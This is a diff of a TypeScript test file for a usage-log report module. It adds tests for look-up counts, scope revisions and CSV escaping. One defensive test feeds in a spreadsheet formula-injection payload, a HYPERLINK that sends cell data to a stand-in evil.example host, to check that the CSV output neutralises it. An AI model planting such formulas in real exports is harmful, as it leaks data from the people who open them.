@@ -1,5 +1,8 @@
+import { addDays, taipeiDate } from '../../src/domain';
+import { loadCatalogs } from '../../src/registry';
 import { reportCsv, reportHtml, usageReport, type LogEntry } from '../../src/usagelog';
-import { approvedLink, cleanupKeys, makeAgencyKeys, servicesOn, type AgencyKeys } from '../helpers/world';
+import { spreadsheetSafe } from '../../src/usagelog/csv-safe';
+import { approvedLink, cleanupKeys, makeAgencyKeys, servicesOn, TestClock, type AgencyKeys } from '../helpers/world';
 import { logWorld, type LogWorld } from './usagelog-world';
 
 let keys: AgencyKeys;
@@ -67,9 +70,9 @@ describe('report usage (R4.2, R6.4, R9.1)', () => {
     expect(r.pushes).toEqual({ count: 1, bytes: 300, byLink: [{ linkId: link1, count: 1 }] });
     expect(r.failedLogins).toEqual({ count: 2, byIpAccount: [{ ip: '10.0.0.9', account: 'a001', count: 2, reasons: { 'key.unknown': 1, 'signature.invalid': 1 } }] });
     expect(r.months).toEqual([
-      { month: '2026-01', deliveries: 1, rows: 100, downloads: 2, bytesDownloaded: 1500, pushes: 0, failedLogins: 2 },
-      { month: '2026-02', deliveries: 1, rows: 50, downloads: 1, bytesDownloaded: 2000, pushes: 0, failedLogins: 0 },
-      { month: '2026-03', deliveries: 0, rows: 0, downloads: 0, bytesDownloaded: 0, pushes: 1, failedLogins: 0 },
+      { month: '2026-01', deliveries: 1, rows: 100, downloads: 2, bytesDownloaded: 1500, pushes: 0, failedLogins: 2, queries: 0, idsAsked: 0 },
+      { month: '2026-02', deliveries: 1, rows: 50, downloads: 1, bytesDownloaded: 2000, pushes: 0, failedLogins: 0, queries: 0, idsAsked: 0 },
+      { month: '2026-03', deliveries: 0, rows: 0, downloads: 0, bytesDownloaded: 0, pushes: 1, failedLogins: 0, queries: 0, idsAsked: 0 },
     ]);
     expect(r.events).toEqual({ 'extract.built': 2, 'file.downloaded': 3, 'auth.failed': 2, 'file.pushed': 1 });
   });
@@ -99,6 +102,123 @@ describe('report usage (R4.2, R6.4, R9.1)', () => {
     expect(html).toContain('&lt;script&gt;x&lt;/script&gt;');
     expect(html).not.toContain('<script>');
     expect(html).toMatch(/<td>2026-01<\/td><td class="n">1<\/td><td class="n">100<\/td>/);
+  });
+
+  describe('the online query (R4.2, R3.5)', () => {
+    const answered = (when: string, linkId: number, ip: string, reference: string, ids: number, found: number | undefined, returned: number, agency = 'A001') =>
+      w.append(
+        { type: 'query.answered', agency, linkId, revision: 1, actor: 'cert:0123456789abcdef', ip, channel: 'online-query', object: 'entry_exit', detail: { ids, ...(found === undefined ? {} : { found }), returned, reference, idHashes: Array.from({ length: ids }, (_, i) => `h${i}`), cert: '0123456789abcdef', idsToday: ids } },
+        when,
+      );
+    const refused = (when: string, linkId: number, ip: string, detail: Record<string, unknown>) =>
+      w.append({ type: 'query.refused', agency: 'A001', linkId, revision: 1, actor: 'cert:0123456789abcdef', ip, channel: 'online-query', object: 'entry_exit', detail }, when);
+    beforeEach(() => {
+      answered('2026-02-10T02:00:00.000Z', link1, '10.0.0.1', 'REF-1', 3, 2, 5);
+      answered('2026-02-10T03:00:00.000Z', link1, '10.0.0.2', 'REF-1', 2, 0, 0);
+      answered('2026-02-11T02:00:00.000Z', link1, '10.0.0.1', 'REF-2', 4, undefined, 4); // written before `found` was
+      refused('2026-02-12T02:00:00.000Z', link1, '10.0.0.1', { code: 'cap.reached', ids: 10, reference: 'REF-3' });
+      refused('2026-02-12T02:01:00.000Z', link1, '203.0.113.5', { code: 'ip.not-allowed' });
+      refused('2026-02-12T02:02:00.000Z', link1, '10.0.0.1', { code: 'rate.limited', reference: 'REF-1' });
+      answered('2026-03-05T02:00:00.000Z', link2, '10.0.0.3', 'REF-9', 1, 1, 1);
+      answered('2026-03-05T02:00:00.000Z', link3, '10.0.0.4', 'REF-X', 100, 100, 100, 'A002');
+      answered('2026-03-31T16:00:00.000Z', link1, '10.0.0.1', 'REF-1', 50, 50, 50); // 2026-04-01 Taipei: outside
+    });
+
+    it("R4.2 report usage counts a link's look-ups: requests, identifiers asked and found, by reference, address and link, refusals by code", () => {
+      const r = usageReport(w.cdb, { linkId: link1 }, '2026-01-01', '2026-03-31', NOW);
+      expect(r.queries).toEqual({
+        requests: 6,
+        answered: 3,
+        refused: 3,
+        idsAsked: 9,
+        idsFound: 2,
+        idsFoundUnknown: 4,
+        recordsReturned: 9,
+        byReference: [
+          { reference: 'REF-1', requests: 3, ids: 5, found: 2 },
+          { reference: 'REF-2', requests: 1, ids: 4, found: 0 },
+          { reference: 'REF-3', requests: 1, ids: 0, found: 0 },
+        ],
+        byIp: [
+          { ip: '10.0.0.1', requests: 4, ids: 7, found: 2 },
+          { ip: '10.0.0.2', requests: 1, ids: 2, found: 0 },
+          { ip: '203.0.113.5', requests: 1, ids: 0, found: 0 },
+        ],
+        byLink: [{ linkId: link1, requests: 6, ids: 9, found: 2 }],
+        refusedByCode: { 'cap.reached': 1, 'ip.not-allowed': 1, 'rate.limited': 1 },
+      });
+      expect(r.months.map((m) => [m.month, m.queries, m.idsAsked])).toEqual([
+        ['2026-01', 0, 0],
+        ['2026-02', 3, 9],
+        ['2026-03', 0, 0],
+      ]);
+    });
+
+    it("R4.2 an agency's look-ups are per link and nothing of another agency's", () => {
+      const r = usageReport(w.cdb, { agency: 'A001' }, '2026-01-01', '2026-03-31', NOW);
+      expect(r.queries).toMatchObject({ requests: 7, answered: 4, idsAsked: 10, idsFound: 3 });
+      expect(r.queries.byLink).toEqual([
+        { linkId: link1, requests: 6, ids: 9, found: 2 },
+        { linkId: link2, requests: 1, ids: 1, found: 1 },
+      ]);
+      expect(r.queries.byReference.map((q) => q.reference)).not.toContain('REF-X');
+    });
+
+    it('R4.2 CSV and HTML carry the look-ups', () => {
+      const r = usageReport(w.cdb, { linkId: link1 }, '2026-01-01', '2026-03-31', NOW);
+      const csv = reportCsv(r);
+      expect(csv).toContain('queries,total,idsAsked,9\r\n');
+      expect(csv).toContain('queries,total,idsFoundUnknown,4\r\n');
+      expect(csv).toContain('query-reference,REF-1,found,2\r\n');
+      expect(csv).toContain('query-ip,10.0.0.1,requests,4\r\n');
+      expect(csv).toContain('query-refused,cap.reached,count,1\r\n');
+      expect(csv).toContain('month,2026-02,idsAsked,9\r\n');
+      const html = reportHtml(r);
+      expect(html).toContain('6 requests: 3 answered, 3 refused. 9 identifiers asked, 2 found (4 more asked in look-ups logged without the count found), 9 records returned.');
+      expect(html).toMatch(/<td>REF-1<\/td><td class="n">3<\/td><td class="n">5<\/td><td class="n">2<\/td>/);
+      expect(html).toMatch(/<td>rate\.limited<\/td><td class="n">1<\/td>/);
+    });
+  });
+
+  it('R4.2 R3.4 each revision in force in the period appears with its scope in words, in JSON, CSV and HTML', async () => {
+    const clock = new TestClock();
+    const world = servicesOn(w.cdb, clock);
+    const approvedAt = clock.now();
+    const id = await approvedLink(world, keys, { account: 'a001c', scope: { text: 'nationality in VNM,IDN' } });
+    clock.advanceDays(10);
+    const cr = await world.registry.fileChange(id, 'scope', { value: 'nationality in VNM' }, 'agency');
+    clock.advanceDays(1);
+    world.registry.approveChange(cr.id, 'nia');
+    const d0 = taipeiDate(approvedAt);
+    const d11 = taipeiDate(clock.now());
+    const catalogs = loadCatalogs();
+
+    const r = usageReport(w.cdb, { linkId: id }, d0, addDays(d0, 20), NOW, catalogs);
+    expect(r.scopes).toEqual([
+      { linkId: id, revision: 1, from: d0, until: d11, scope: { all: false, conditions: [{ field: 'nationality', op: 'in', values: ['VNM', 'IDN'] }] }, text: '國籍：越南、印尼' },
+      { linkId: id, revision: 2, from: d11, until: null, scope: { all: false, conditions: [{ field: 'nationality', op: 'in', values: ['VNM'] }] }, text: '國籍：越南' },
+    ]);
+    expect(reportCsv(r)).toContain(`revision-scope,link ${id} revision 2,text,國籍：越南\r\n`);
+    expect(reportCsv(r)).toContain(`revision-scope,link ${id} revision 1,scope,"nationality in VNM,IDN"\r\n`);
+    expect(reportHtml(r)).toContain(`<td class="n">${id}</td><td class="n">2</td><td>${d11}</td><td>-</td><td>國籍：越南</td>`);
+    // After the change only the new scope was in force; before the approval none was.
+    expect(usageReport(w.cdb, { linkId: id }, addDays(d11, 1), addDays(d11, 9), NOW, catalogs).scopes.map((s) => s.revision)).toEqual([2]);
+    expect(usageReport(w.cdb, { linkId: id }, addDays(d0, -30), addDays(d0, -1), NOW, catalogs).scopes).toEqual([]);
+    // The agency's report names the scope of each of its links, the whole-dataset ones with their justification.
+    const agency = usageReport(w.cdb, { agency: 'A001' }, d0, addDays(d0, 20), NOW, catalogs);
+    expect(agency.scopes.find((s) => s.linkId === link1)).toMatchObject({ revision: 1, until: null, text: '全部資料（理由：test: the whole dataset）' });
+    expect(agency.scopes.map((s) => s.linkId)).not.toContain(link3);
+  });
+
+  it('R4.2 CSV formulas: a cell a spreadsheet would run (=HYPERLINK, +, -, @, tab, CR) comes out as text', () => {
+    const evil = '=HYPERLINK("http://evil.example/?d="&A1,"case")';
+    w.append({ type: 'query.answered', agency: 'A001', linkId: link1, actor: 'cert:0123456789abcdef', ip: '10.0.0.1', channel: 'online-query', object: 'entry_exit', detail: { ids: 1, found: 1, returned: 1, reference: evil, idHashes: ['h'], cert: 'c', idsToday: 1 } }, '2026-03-02T02:00:00.000Z');
+    w.append({ type: 'file.downloaded', agency: 'A001', linkId: link1, actor: '@SUM(1+1)', ip: '10.0.0.1', detail: { bytes: 1, result: 'complete' } }, '2026-03-02T02:00:00.000Z');
+    const csv = reportCsv(usageReport(w.cdb, { linkId: link1 }, '2026-01-01', '2026-03-31', NOW));
+    expect(csv).toContain(`query-reference,"'=HYPERLINK(""http://evil.example/?d=""&A1,""case"")",requests,1\r\n`);
+    expect(csv).toContain("downloads,'@SUM(1+1)@10.0.0.1,count,1\r\n");
+    expect(csv.split('\r\n').some((line) => /(^|,)"?[=+\-@\t\r]/.test(line))).toBe(false);
+    expect(['=1+1', '+1', '-1', '@A1', '\tx', '\rx', 'plain', null, -1, 0].map(spreadsheetSafe)).toEqual(["'=1+1", "'+1", "'-1", "'@A1", "'\tx", "'\rx", 'plain', '', '-1', '0']);
   });
 
   it('refuses a scope that does not exist or is ambiguous', () => {
